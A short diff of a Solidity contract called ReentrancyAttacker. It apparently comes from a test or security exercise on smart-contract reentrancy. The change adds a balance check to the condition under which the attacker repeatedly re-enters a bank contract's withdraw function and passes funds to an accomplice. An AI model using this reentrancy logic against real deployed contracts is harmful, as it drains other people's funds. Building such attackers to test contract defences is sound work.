@@ -54,7 +54,7 @@ contract ReentrancyAttacker {
         if (splitting) {
             splitting = false;
             bank.give(address(accomplice), msg.value);
-        } else if (rounds > 0) {
+        } else if (rounds > 0 && msg.sender.balance >= msg.value) {
             rounds -= 1;
             bank.withdraw(msg.value);
         }
